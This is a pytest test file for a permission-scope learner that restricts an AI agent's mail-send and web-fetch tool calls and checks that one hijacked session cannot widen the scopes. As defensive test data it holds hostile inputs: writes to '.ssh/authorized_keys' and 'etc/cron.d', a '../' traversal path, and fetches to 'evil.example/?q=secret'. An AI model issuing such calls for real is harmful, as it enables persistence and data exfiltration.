"""Lists of objects in the fit by kinds: members of elements are held like arguments, nothing else is open."""

from __future__ import annotations

from typing import Any

import pytest

from sessauth.usage.kinds.observed import price_of
from sessauth.usage.kinds.scopes import brought_once
from sessauth.usage.tighten import Fit
from tests.support.kinds import Call, layer_of, learnt, learnt_from, observed, permits, send, texts

HEAD = "write:mcp/mail/send where "
LONG = "Dear all, here is what we decided yesterday, and what is still open for the next meeting of the team"


def of(values: list[Any]) -> list[str]:
    """Return the scopes after sessions that each gave one value."""
    return texts([[send(v=value)] for value in values])


def push(*files: Any, **arguments: Any) -> Call:
    """Return a call that writes files."""
    return send(branch="main", files=list(files), **arguments)


def file(path: str = "src/a.py", mode: str = "file", content: str = LONG, **more: Any) -> dict[str, Any]:
    """Return an element."""
    return {"path": path, "mode": mode, "content": content, **more}


@pytest.mark.parametrize(
    ("values", "scope"),
    [
        ([[{"to": "ana"}, {"to": "ben"}], [{"to": "ana"}]], 'v[].to in ["ana", "ben"]'),
        ([[{"p": "docs/a.txt"}], [{"p": "docs/b.txt"}]], 'v[].p under "docs"'),
        ([[{"u": "https://a.example/x"}]], 'host(v[].u) in ["a.example"]'),
        ([[{"n": 12}, {"n": 18}]], "v[].n >= 10 and v[].n <= 20"),
        ([[{"ok": True}]], "v[].ok in [false, true]"),
        ([[{"id": "a", "text": LONG}]], 'v[].id == "a" and v[].text present'),
        ([[{"id": "a", "cc": "b"}, {"id": "a"}]], 'v[].cc? == "b" and v[].id == "a"'),
        ([[{"id": "a"}], []], 'v[].id? == "a"'),
        ([[{"id": "a"}], None], ['v[].id == "a"', "v == null"]),
        (["a", None], ['v == "a"', "v == null"]),
        (["a", []], ['v == "a"', "count(v) == 0"]),
        ([[{"id": "a"}], ["b"]], ['v[].id == "a"', 'v subset_of ["b"]']),
        ([[{"o": {"to": "a", "n": 3}}]], 'v[].o.n >= 2 and v[].o.n <= 5 and v[].o.to == "a"'),
        ([[{"tags": ["a"]}], [{"tags": ["b"]}]], 'v[].tags subset_of ["a", "b"]'),
        ([[{"in": [{"x": "a"}]}]], 'v[].in[].x == "a"'),
        ([[["a"], ["b"]]], 'v[] subset_of ["a", "b"]'),
        ([[[{"x": "a"}]]], 'v[][].x == "a"'),
        ([[{"x": "a/b.c"}, {"x": 1}]], "v[].x present"),
        ([[{"x": "a", "": 1}]], "v present"),
        ([[{"x": "a"}, {"x": None}]], 'v[].x in ["a", null]'),
        ([[{"x": True}, {"x": None}, {}]], "v[].x? in [false, true, null]"),
    ],
)
def test_members_of_elements_are_held_by_kind(values: list[Any], scope: str | list[str]) -> None:
    """Each element has to satisfy what its member is held to."""
    scopes = [scope] if isinstance(scope, str) else scope
    assert of(values) == [HEAD + each for each in scopes]
    assert all(permits(learnt([[send(v=value)] for value in values]).scopes, send(v=v)) for v in values)


def test_an_element_is_a_closed_world() -> None:
    """Another path, an added element, an unknown member, a list of something else: all are denied."""
    sessions = [[push(file(), file("src/b.py"))], [push(file("src/c.py", content="x\ny"))]] * 3
    suggestion = learnt(sessions)
    assert str(suggestion.scopes[0]) == (
        HEAD + 'branch == "main" and files[].mode == "file" and files[].path under "src" '
        "and files[].content present"
    )
    assert suggestion.notes == ("write:mcp/mail/send files[].content: free text",)
    fine = file("src/new.py", content="anything")
    assert permits(suggestion.scopes, push(fine)) and permits(suggestion.scopes, push(fine, fine, fine))
    for wrong in (
        [fine, file(".ssh/authorized_keys")],
        [file("src/../.ssh/config")],
        [{**fine, "owner": "mallory"}],
        [{**fine, "mode": "symlink"}],
        [{"path": "src/a.py"}],
        [fine, "src/a.py"],
        [fine, [fine]],
        [],
        [{}],
    ):
        assert not permits(suggestion.scopes, push(*wrong)), wrong
    assert not permits(suggestion.scopes, send(branch="main", files={"0": fine}))
    assert not permits(suggestion.scopes, send(branch="main"))


def test_what_one_session_brought_inside_elements_is_left_out() -> None:
    """A hijacked session among fifteen opens nothing inside, and the report names what it brought."""
    honest = [[push(file(f"src/{n}.py"), note="weekly")] for n in range(14)]
    for bad in (
        push(file("etc/cron.d/x"), note="weekly"),
        push(file(mode="symlink"), note="weekly"),
        push(file(owner="mallory"), note="weekly"),
        push({"path": 7, "mode": "file", "content": LONG}, note="weekly"),
        push(file(), "anything", note="weekly"),
        push("src/a.py", note="weekly"),
        push(*[file(**{f"m{n}": n for n in range(40)})], note="weekly"),
        push(*[file()] * 400, {"path": "etc/x"}, note="weekly"),
        push(file(**{"": "unnameable"}), note="weekly"),
    ):
        layer = layer_of()
        sessions = [
            observed(layer, calls, f"s{n}") for n, calls in enumerate([*honest[:7], [bad], *honest[7:]])
        ]
        suggestion = learnt_from(layer, sessions)
        assert permits(suggestion.scopes, push(file("src/new.py"), note="weekly")), bad
        assert not permits(suggestion.scopes, push(file("etc/x"), note="weekly")), bad
        assert not permits(suggestion.scopes, push(file(mode="symlink"), note="weekly")), bad
        assert not permits(suggestion.scopes, push(file(owner="mallory"), note="weekly")), bad
    rows = brought_once(
        layer_of(), [observed(layer_of(), c, f"s{n}") for n, c in enumerate([*honest[:7], [bad]])]
    )
    assert rows == ()
    named = [*honest[:7], [push(file("etc/cron.d/x", mode="symlink", owner="mallory"), note="weekly")]]
    rows = brought_once(layer_of(), [observed(layer_of(), calls, f"s{n}") for n, calls in enumerate(named)])
    assert {(row.session, row.argument, row.value) for row in rows} == {
        ("s7", "files[].mode", '"symlink"'),
        ("s7", "files[].path", '"etc/cron.d"'),
        ("s7", "files[].owner", ""),
    }


def test_one_session_alone_hides_no_argument() -> None:
    """A name that no path can hold, or another type where objects were, opens nothing in one of many."""
    honest: list[list[Call]] = [[send(to={"name": "ana"})] for _ in range(14)]
    for bad in (send(to={"name": "ana"}, **{"": 1}), send(to="mallory"), send(to={"name": "ana", "": 1})):
        scopes = learnt([*honest, [bad]]).scopes
        assert permits(scopes, send(to={"name": "ana"})) and not permits(scopes, send(to={"name": "mallory"}))
        assert not permits(scopes, send(to="mallory")), bad
    bad_numbers = learnt([*[[send(n=[3, 4])] for _ in range(14)], [send(n=[90_000])]])
    assert permits(bad_numbers.scopes, send(n=[4])) and not permits(bad_numbers.scopes, send(n=[90_000]))


def test_a_member_that_equals_a_fact_is_held_to_it() -> None:
    """Each session pays with a card of its customer."""
    layer = layer_of()
    sessions = [
        observed(layer, [send(pay=[{"card": f"c{n}", "n": 5}])], f"s{n}", card=f"c{n}") for n in range(6)
    ]
    suggestion = learnt_from(layer, sessions)

    assert str(suggestion.scopes[0]) == HEAD + "pay[].card == session.card and pay[].n == 5"


def test_the_price_counts_what_is_inside() -> None:
    """A session whose element has another member, or another value there, would have been denied."""
    layer, sessions = layer_of(), [[push(file())], [push(file("src/b.py"))]]
    scopes = learnt(sessions).scopes

    def denied(*calls: Call) -> int:
        return price_of(layer, observed(layer, calls), scopes).denied

    assert denied(push(file("src/new.py")), push(file(), file())) == 0
    assert denied(push(file("etc/x")), push(file())) == 1
    assert denied(push(file(owner="x"))) == 1
    assert denied(push({"path": "src/a.py", "mode": "file"}), push(file())) == 1
    assert denied(push(), push(file())) == 1
    assert denied(send(branch="main")) == 1


def test_a_suggestion_lies_inside_a_grant_of_elements() -> None:
    """Conditions on elements in the grant stay, and the calls by it are found at all."""
    grant = HEAD + 'branch == "main" and files[].path under "src" free files[].content, files[].mode'
    calls = [push(file("src/app/a.py")), push(file("src/app/b.py"))]
    scopes = learnt([calls], grant).scopes

    assert len(scopes) == 1 and 'files[].path under "src/app"' in str(scopes[0])
    for fit in Fit:
        suggestion = learnt([calls], grant, fit=fit)
        assert all(permits(suggestion.scopes, call) for call in calls), fit
        assert not permits(suggestion.scopes, push(file("etc/x"))), fit


def test_hosts_inside_lists_hold_a_tool_that_reads() -> None:
    """A reading tool that takes URLs in a list, or in objects there, reaches the hosts that were used."""

    def fetch(*urls: str, **more: str) -> Call:
        return (
            "read",
            "mcp/web/fetch",
            {"all": [{"url": url, "how": "fast", **more} for url in urls], "n": 1},
        )

    scopes = learnt([[fetch("https://a.example/1", "https://a.example/2")]] * 2).scopes
    assert str(scopes[0]) == 'read:mcp/web/fetch where host(all[].url) in ["a.example"] free all[].how, n'
    assert permits(scopes, fetch("https://a.example/3", how="slow"))
    assert not permits(scopes, fetch("https://a.example/3", "https://evil.example/?q=secret"))
    assert not permits(scopes, fetch("https://a.example/3", proxy="https://evil.example"))
    plain = learnt([[("read", "mcp/web/fetch", {"urls": ["https://a.example/1"]})]]).scopes
    assert str(plain[0]) == 'read:mcp/web/fetch where each(host(urls)) in ["a.example"]'
    sessions = [[fetch("https://a.example/1")]] * 4 + [[fetch("https://evil.example/1")]]
    rows = brought_once(
        layer_of(), [observed(layer_of(), calls, f"s{n}") for n, calls in enumerate(sessions)]
    )
    assert [(row.session, row.argument, row.value) for row in rows] == [("s4", "all[].url", '"evil.example"')]


@pytest.mark.parametrize(
    "bad",
    [
        {"": 1, "url": "https://evil.example/"},
        {"in": {"url": "https://evil.example/", "": 1}},
        {"in": "https://evil.example/"},
        {"in": [{"url": "https://evil.example/"}]},
        {"in": {"url": ["https://evil.example/"]}},
    ],
)
def test_one_session_alone_opens_no_host(bad: dict[str, Any]) -> None:
    """A reading tool stays held, whatever one of many sessions gave it."""
    honest: list[Call] = [
        ("read", "mcp/web/fetch", {"in": {"url": f"https://a.example/{n}"}}) for n in range(14)
    ]
    scopes = learnt([*[[call] for call in honest], [("read", "mcp/web/fetch", bad)]]).scopes

    assert permits(scopes, honest[0])
    for wrong in (bad, {"in": {"url": "https://evil.example/"}}, {"url": "https://evil.example/"}):
        assert not permits(scopes, ("read", "mcp/web/fetch", wrong)), wrong
